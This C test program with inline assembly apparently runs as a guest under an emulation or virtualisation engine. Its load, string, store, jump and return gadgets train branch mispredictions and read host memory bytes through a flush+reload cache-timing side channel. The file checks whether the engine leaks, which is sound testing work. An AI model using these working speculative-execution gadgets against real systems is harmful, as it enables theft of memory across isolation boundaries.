/*
 * Gadgets of speculation: each makes the host do something at an address that the guest names, past
 * a branch of the guest's own that is mispredicted, if the engine lets it. What came of it is told
 * by a cache line.
 *
 *   load     reads a byte there
 *   string   the same, by MOVSB
 *   store    writes a byte there, which is looked for by another name of the same place
 *   jump     jumps there; the code that is to be executed touches a line
 *   return   the same, by RET
 *
 * The address comes from the console, and what was found goes there: the test compares it with what
 * lies in the machine process. For load and string: past that branch the lookup of an address that
 * is not cached is mispredicted as well; its branch resolves late, because many older ones become
 * ready with it, which gives the two loads their time.
 */
#include "guest.h"

enum {
	STRIDE = 1024,
	VALUES = 256,
	ROUNDS = 400,
	TRAININGS = 12,
	SECRET_BYTES = 8
};

static uint8_t probe[(VALUES + 1) * STRIDE] __attribute__((aligned(PAGE_BYTES)));
static uint64_t slow[64] __attribute__((aligned(64)));
static uint8_t harmless[64] __attribute__((aligned(64)));
static uint8_t scratch[64] __attribute__((aligned(64)));
uint8_t copy[64] __attribute__((aligned(64)));
/* Known to the test by their names. */
uint8_t alias[PAGE_BYTES] __attribute__((aligned(PAGE_BYTES)));
void land(void);
void nothing(void);

/*
 * rdi: address, rsi: probe, rdx: zero in memory that is not cached when the address is the
 * attacker's, rcx: 0 architecturally to do it.
 */
typedef void gadget_code(const void *address, const uint8_t *probe, const uint64_t *slow,
			 uint64_t skip);
gadget_code gadget_load, gadget_string, gadget_store, gadget_jump, gadget_return;
__asm__(".macro begin_gadget older\n"
	"mov (%rdx), %rax\n"
	"mov (%rax), %rax\n"
	"mov 128(%rdx), %r9\n"
	"add %rcx, %rax\n"
	"test %rax, %rax; jnz 1f\n"
	".rept \\older; test $1, %r9b; jnz 1f; .endr\n"
	"add %r9, %rdi\n"
	"jmp 2f; 2:\n"
	".endm\n"
	".macro tell value, probe\n"
	"shl $10, \\value\n"
	"add \\probe, %rcx\n"
	"movzbl (%rcx), %ecx\n"
	"1: ret\n"
	".p2align 12\n"
	".endm\n"
	".p2align 12\n"
	"gadget_load: begin_gadget 38\n"
	"movzbl (%rdi), %ecx\n"
	"tell %ecx, %rsi\n"
	"gadget_string: begin_gadget 38\n"
	"mov %rsi, %r8\n"
	"mov %rdi, %rsi\n"
	"mov $copy, %edi\n"
	"movsb\n"
	"movzbl copy, %ecx\n"
	"tell %ecx, %r8\n"
	"gadget_store: begin_gadget 38\n"
	"movb $0x5a, (%rdi)\n"
	"movzbl alias, %ecx\n"
	"tell %ecx, %rsi\n"
	"gadget_jump: begin_gadget 0\n"
	"jmp *%rdi\n"
	"1: ret\n"
	".p2align 12\n"
	"gadget_return: begin_gadget 0\n"
	"push %rdi\n"
	"ret\n"
	"1: ret\n"
	".p2align 12\n"
	".globl land, nothing\n"
	"nothing: ret\n"
	".p2align 12\n"
	"land: mov $0x1a9d3a2b, %eax\n" /* by which the test finds its translation */
	"movzbl 0x5a * 1024(%rsi), %ecx\n"
	"ret\n"
	".p2align 12\n");

static inline void flush(const void *at)
{
	__asm__ volatile("clflush (%0)" : : "r"(at) : "memory");
}
static inline void fence(void) { __asm__ volatile("mfence; lfence" : : : "memory"); }

static uint64_t time_of(const volatile uint8_t *at)
{
	uint64_t begin, end;

	fence();
	begin = rdtsc();
	fence();
	(void)*at;
	fence();
	end = rdtsc();
	return end - begin;
}

static uint64_t limit;

static void calibrate(void)
{
	uint64_t near = ~0ull, far = ~0ull;

	for (int n = 0; n < 200; n++) {
		uint64_t took;

		(void)*(volatile uint8_t *)harmless;
		took = time_of(harmless);
		near = took < near ? took : near;
		flush(harmless);
		fence();
		took = time_of(harmless);
		far = took < far ? took : far;
	}
	limit = near + (far - near) / 2;
	print("cached ");
	print_number(near);
	print(" not ");
	print_number(far);
	print("\n");
}

static uint64_t seed = 88172645463325252ull;

static uint64_t rnd(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed;
}

struct attack { char name; gadget_code *gadget; const void *training; unsigned bytes; };

static const struct attack attacks[] = {
	{ .name = 'l', .gadget = gadget_load, .training = harmless, .bytes = SECRET_BYTES },
	{ .name = 'm', .gadget = gadget_string, .training = harmless, .bytes = SECRET_BYTES },
	{ .name = 's', .gadget = gadget_store, .training = scratch, .bytes = 1 },
	{ .name = 'j', .gadget = gadget_jump, .training = (const void *)nothing, .bytes = 1 },
	{ .name = 'r', .gadget = gadget_return, .training = (const void *)nothing, .bytes = 1 },
};

static void attack(const struct attack *a, const uint8_t *address)
{
	for (unsigned n = 0; n < TRAININGS * 3; n++) {
		/* the attacker's turn without a branch: its history would tell */
		uint64_t turn = (uint64_t)(-(int64_t)(rnd() % TRAININGS)) >> 63; /* 1: training */
		uint64_t mask = turn - 1;
		const uint8_t *at = (const uint8_t *)(((uint64_t)address & mask) |
						      ((uint64_t)a->training & ~mask));

		flush(slow);
		flush(slow + 16);
		flush(slow + 32);
		fence();
		a->gadget(at, probe, slow, mask & 1);
	}
}

static int read_byte(const struct attack *a, const uint8_t *address)
{
	static unsigned score[VALUES];
	int best = -1;

	for (int value = 0; value < VALUES; value++)
		score[value] = 0;
	for (int round = 0; round < ROUNDS; round++) {
		for (int value = 0; value < VALUES; value++)
			flush(probe + value * STRIDE);
		fence();
		attack(a, address);
		for (int n = 0; n < VALUES; n++) {
			int value = (n * 167 + 13) & (VALUES - 1);

			if (time_of(probe + value * STRIDE) < limit)
				score[value]++;
		}
	}
	for (int value = 1; value < VALUES; value++) /* 0 is the harmless one */
		if (score[value] > 3 && (best < 0 || score[value] > score[best]))
			best = value;
	return best;
}

static uint8_t console_byte(void)
{
	while (!(inb(0x3fd) & 1))
		;
	return inb(0x3f8);
}

static uint64_t console_number(void)
{
	uint64_t value = 0;

	for (uint8_t digit; (digit = console_byte()) != '\n';)
		value = value * 16 + (uint64_t)(digit <= '9' ? digit - '0' : digit - 'a' + 10);
	return value;
}

static const struct attack *console_attack(void)
{
	uint8_t name = console_byte();

	for (unsigned n = 0; n < sizeof(attacks) / sizeof(attacks[0]); n++)
		if (attacks[n].name == name)
			return &attacks[n];
	return NULL;
}

static void touch(void *at) { (void)*(volatile uint8_t *)at; }
static void clear(void *at) { *(volatile uint8_t *)at = 0; }

void test_main(void)
{
	const struct attack *a;

	for (unsigned n = 0; n < sizeof(probe); n++)
		probe[n] = 1;
	slow[0] = (uint64_t)(slow + 32);
	calibrate();
	gadget_jump(land, probe, slow, 0); /* translated, and where jumps find it */
	print("READY\n");
	while ((a = console_attack())) {
		uint64_t at = console_number();

		/* the table of its neighbourhood is there now */
		try_code(a->gadget == gadget_store ? clear : touch, (void *)at);
		print("read");
		for (unsigned n = 0; n < a->bytes; n++) {
			int value = read_byte(a, (const uint8_t *)at + n);

			print(" ");
			if (value < 0)
				print("-");
			else
				print_number((uint64_t)value);
		}
		print("\n");
	}
	finish();
}
